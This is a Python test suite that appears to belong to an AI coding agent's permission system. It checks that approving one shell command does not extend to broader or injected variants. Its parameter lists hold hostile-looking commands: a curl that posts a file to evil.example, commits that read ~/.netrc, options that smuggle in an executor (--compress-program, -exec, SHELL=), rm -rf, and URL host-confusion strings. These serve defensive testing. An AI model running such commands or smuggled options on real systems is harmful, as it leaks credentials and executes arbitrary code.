"""What an answer stores: the call that was shown, and no other."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deeptide.permissions.intents import Intent
from deeptide.permissions.policy import Policy, Verdict
from deeptide.permissions.rules import Rule, Rules
from deeptide.workspace.roots import Roots
from tests.deep import count

HOME = Path("/home/u")
WORKSPACE = HOME / "proj"


def policy(*allow: str) -> Policy:
    return Policy(Roots(WORKSPACE), HOME, Rules(allow))


def shell(judge: Policy, command: str) -> Verdict:
    return judge.judge("shell", False, (Intent("run", command),), "ask")


def approved(command: str) -> Policy:
    judge = policy()
    judge.rules.add(*shell(judge, command).rules)
    return judge


WIDER = [
    ("rm build/a.o", "rm build/a.o src -rf"),
    ("rm build/a.o", "rm -rf build/a.o"),
    ("rm build/a.o", "cd src && rm build/a.o"),
    ("rm build/a.o", "echo src | xargs rm build/a.o"),
    ("rm build/a.o", "find src -exec rm build/a.o {} +"),
    ("xargs rm -rf <<< build", "rm -rf src"),
    ("xargs rm -rf <<< build", "xargs rm -rf <<< src"),
    ("git config user.name", "git config core.pager evil"),
    ("git config user.name x", "git config core.pager evil"),
    ("curl https://a.example", "curl https://a.example -d @f https://evil.example"),
    ("sort f -o g", "sort f -o g --compress-program=evil"),
    ("vim notes", "vim notes -c !evil"),
    ("sqlite3 x.db", "sqlite3 x.db .dump"),
    ("sqlite3 x.db", "sqlite3 x.db < orders"),
    ("sqlite3 x.db", "sqlite3 x.db <<< '.shell evil'"),
    ("sqlite3 x.db", "cat orders | sqlite3 x.db"),
    ("gdb app", "gdb app -ex '!evil'"),
    ("rg --pre x y", "rg --pre evil y"),
    ("deno run a.ts", "deno run evil.ts"),
    ("deno run a.ts", "deno run a.ts -A"),
    ("python tools/x.py a", "python tools/x.py b"),
    ("make all", "make all SHELL=evil"),
    ("make all", "make all deploy"),
    ("npm run build", "npm run build --script-shell=evil"),
    ("npm test", "npm test --prefix ../evil"),
    ("npm test", "npm test -- --globalSetup=/tmp/evil.js"),
    ("npm test", "npm test /tmp/evil.js"),
    ("pytest -q", "pytest -p evil"),
    ("pytest -q", "pytest -q /tmp/evil"),
    ("pytest -q", "pytest -q ../evil"),
    ("pytest -q", "pytest -c /tmp/evil.ini"),
    ("pytest -q", "pytest --junitxml=../x"),
    ("pytest -q", "pytest -k *"),
    ("pytest -q", "pytest {-q,--rootdir=/tmp}"),
    ("pytest -q", "pytest $X"),
    ("pytest -q", "cd /tmp/evil && pytest -q"),
    ("pytest -q", "./pytest -q"),
    ("pytest -q", "npx pytest -q"),
    ("pytest -q", "uvx pytest -q"),
    ("cargo build", "cargo build --config build.rustc-wrapper=evil"),
    ("cargo build", "cargo build --manifest-path ../evil/Cargo.toml"),
    ("cargo clippy", "cargo clippy -- -C linker=evil"),
    ("cargo test", "cargo test -- --logfile ../x"),
    ("go test ./...", "go test -exec evil ./..."),
    ("go build", "go build -toolexec evil"),
    ("git commit -m x", "git commit -F ~/.netrc"),
    ("git commit -m x", "git commit --amend"),
    ("git commit -m x", "git commit -m x --no-verify"),
    ("git commit -m x", 'git commit -m "$@"'),
    ("git commit -m x", "git commit -m $X"),
    ("git commit -m x", "git -C ../evil commit -m x"),
    ("git add .", "git add --pathspec-from-file=x"),
    ("git add .", "git add -f .env"),
    ("git add .", "git config core.pager evil"),
]


@pytest.mark.parametrize(("shown", "other"), WIDER)
def test_an_approval_does_not_hold_for_a_call_that_does_more(shown: str, other: str) -> None:
    assert shell(approved(shown), other).action in {"ask", "ask_strong"}


ALIKE = [
    ("git commit -m one", "git commit -am 'two words'"),
    ("git commit -m one", 'git commit -m "$(cat notes)"'),
    ("git commit -m one", "cd /home/u/proj && git commit -m two"),
    ("git add .", "git add src/a.py src/b.py"),
    ("pytest -q", "pytest -xq tests/test_a.py::test_b -k 'a and not b' --tb=short"),
    ("pytest -q", "timeout 60 pytest tests"),
    ("uv run pytest -q", "uv run pytest tests/test_a.py"),
    ("cargo test", "cargo test --release -p core name"),
    ("go test ./...", "go test -v -run=TestX ./pkg/..."),
    ("rm build/a.o", "rm build/a.o"),
    ("make all", "CI=1 make all"),
    ("python tools/x.py a", "bash -c 'python tools/x.py a'"),
]


@pytest.mark.parametrize(("shown", "other"), ALIKE)
def test_an_approval_holds_for_the_same_work(shown: str, other: str) -> None:
    assert shell(approved(shown), other).action == "allow"


@pytest.mark.parametrize(
    "command",
    ["xargs rm -rf <<< build", "find . -name x -exec rm {} +", "cd src && rm a.o", "sqlite3 x.db < orders",
     "npx prettier -w a", "rm 'a; run npm'", "rm *.o", "cd /tmp && pytest"],
)  # fmt: skip
def test_no_rule_is_offered_where_words_do_not_say_all(command: str) -> None:
    verdict = shell(policy(), command)
    assert (verdict.action in {"ask", "ask_strong"}, verdict.rules) == (True, ())


@pytest.mark.parametrize("kind", ["write", "delete"])
@pytest.mark.parametrize(
    "name", ["*", "?", "[a]", "app/[id]/page.tsx", "exactly x", "**/*", "a; write *", "~/x"]
)
def test_a_file_name_is_never_a_pattern(kind: str, name: str) -> None:
    judge = policy()
    path = str(WORKSPACE / name)

    def act(target: str) -> Verdict:
        return judge.judge("edit", False, (Intent("delete" if kind == "delete" else "write", target),), "ask")

    first = act(path)
    judge.rules.add(*first.rules)
    assert act(path).action == ("allow" if first.rules else "ask")
    for other in ("src/other.py", "a", "x", "app/i/page.tsx", "app/d", "b"):
        assert act(other).action == "ask"


def test_a_folder_called_like_the_home_does_not_open_the_home() -> None:
    judge = policy()
    inside = Intent("read", str(WORKSPACE / "~/.ssh/id_rsa"))
    judge.rules.add(*judge.judge("read", True, (inside,), "ask").rules)
    assert judge.judge("read", True, (inside,), "ask").action == "allow"
    assert judge.judge("read", True, (Intent("read", "~/.ssh/id_rsa"),), "ask").action == "ask"


@pytest.mark.parametrize(
    "url", ["https://evil.example?@good.example", "https://evil.example#@good.example", "https://x@evil.example/",
            "https://evil.example\\@good.example", "https://good.example.evil.example"],
)  # fmt: skip
def test_a_rule_for_a_host_holds_for_that_host(url: str) -> None:
    judge = policy("network good.example")
    assert judge.judge("web", True, (Intent("network", url),), "ask").action == "ask"
    assert judge.judge("web", True, (Intent("network", "https://GOOD.example/a"),), "ask").action == "allow"


def test_a_host_or_tool_that_is_a_pattern_is_stored_literally() -> None:
    judge = policy()
    judge.rules.add(*judge.judge("web", True, (Intent("network", "https://*/"),), "ask").rules)
    assert judge.judge("web", True, (Intent("network", "https://a.example"),), "ask").action == "ask"
    judge.rules.add(*judge.judge("*", False, (), "ask").rules)
    assert judge.judge("other", False, (), "ask").action == "ask"


def test_a_user_s_own_rule_is_whole_for_what_destroys_and_a_prefix_otherwise() -> None:
    judge = policy("run rm build/a.o", "run python x.py", "run mytool sub", "write docs/*")
    assert shell(judge, "rm build/a.o").action == "allow"
    assert shell(judge, "rm build/a.o src").action == "ask"
    assert shell(judge, "python x.py -c 1").action == "ask"
    assert shell(judge, "mytool sub --any x").action == "allow"
    assert judge.judge("edit", False, (Intent("write", "docs/a/b.md"),), "ask").action == "allow"


PROGRAMS = [
    "rm",
    "git",
    "pytest",
    "cargo",
    "npm",
    "go",
    "python",
    "curl",
    "sort",
    "mytool",
    "make",
    "uv",
    "xargs",
]
FURTHER = ["commit", "add", "config", "test", "build", "run", "-m", "-q", "-am", "x", "src/a", "../x", "/tmp/x",
           "--", "--x=y", "-c", "--config", "a=b", "exactly", ";", "a; b", "*", "", "two words", "-", "$X"]  # fmt: skip
WORDS = st.tuples(st.sampled_from(PROGRAMS), st.lists(st.sampled_from(FURTHER), max_size=4)).map(
    lambda pair: (pair[0], *pair[1])
)
UNLISTED = {"../x", "/tmp/x", "--x=y", "-c", "--config", "a=b", "-"}


@settings(max_examples=count(200, 5000), deadline=None)
@given(WORDS, WORDS, st.booleans(), st.lists(st.sampled_from(FURTHER), max_size=2))
def test_a_stored_rule_clears_no_other_words(
    shown: tuple[str, ...], other: tuple[str, ...], longer: bool, more: list[str]
) -> None:
    judge = approved(shlex.join(shown))
    words = (*shown, *more) if longer else other
    before, after = shell(policy(), shlex.join(words)), shell(judge, shlex.join(words))
    if before.action == "allow" or after.action != "allow":
        return
    assert judge.rules.allowed
    covers = []
    for rule in judge.rules.allowed:
        wanted = tuple(rule.pattern.split())
        rest = words[len(wanted) :]
        covers.append(words == wanted if rule.exact else words[: len(wanted)] == wanted and _listed(rest))
    assert any(covers)


def _listed(rest: tuple[str, ...]) -> bool:
    """Only the text after a message option may look like anything."""
    values = {index + 1 for index, word in enumerate(rest) if word in {"-m", "-am"}}
    return not any(word in UNLISTED for index, word in enumerate(rest) if index not in values)


@settings(max_examples=count(200, 5000), deadline=None)
@given(WORDS)
def test_an_offered_rule_clears_the_call_it_was_offered_for_and_can_be_shown(words: tuple[str, ...]) -> None:
    command = shlex.join(words)
    verdict = shell(policy(), command)
    if verdict.rules:
        assert shell(approved(command), command).action == "allow"
        assert tuple(verdict.scope.split("; ")) == verdict.rules
        assert [str(Rule.parse(text)) for text in verdict.rules] == list(verdict.rules)
